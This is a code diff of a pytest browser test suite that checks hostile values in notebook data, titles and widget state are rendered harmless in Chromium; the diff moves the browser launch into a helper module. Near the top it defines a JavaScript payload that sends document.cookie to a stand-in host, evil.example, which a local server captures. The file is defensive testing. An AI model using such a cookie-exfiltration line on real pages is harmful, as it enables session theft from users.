@@ -1,21 +1,20 @@
 """What data, titles and the state of widgets can do in a real browser: nothing. Every value here means harm."""
 
 import json
-import shutil
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import ClassVar
 
 import nbformat
 import pytest
-from playwright.sync_api import expect, sync_playwright
+from playwright.sync_api import expect
 
+import real_chromium
 from app_viewers import alive
 from apps_service import PREFIX, served_apps
 from planted_insights import KERNEL, Planting
 
 pytestmark = pytest.mark.browser
-FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
 #: Each tries to say that it ran, to ask another host, or to lead somewhere else.
 RUN = "document.documentElement.dataset.taken='yes';fetch('http://evil.example/'+document.cookie)"
 HARM = f"""
@@ -118,12 +117,7 @@ def evil():
 
 @pytest.fixture(scope="module")
 def tab(service, planting, evil):
-    path = shutil.which("chromium")
-    assert path, "Chromium is not installed: apt-get install chromium"
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(
-            executable_path=path, args=[*FLAGS, f"--host-resolver-rules=MAP evil.example 127.0.0.1:{evil}"]
-        )
+    with real_chromium.opened(f"--host-resolver-rules=MAP evil.example 127.0.0.1:{evil}") as browser:
         context = browser.new_context()
         page = context.new_page()
         page.refused = []
@@ -132,7 +126,6 @@ def tab(service, planting, evil):
         page.goto(f"{service.address}{PREFIX}harm/")
         alive(page).get_by_text("AT-THE-END").wait_for(timeout=90_000)
         yield page
-        browser.close()
 
 
 def taken(page):
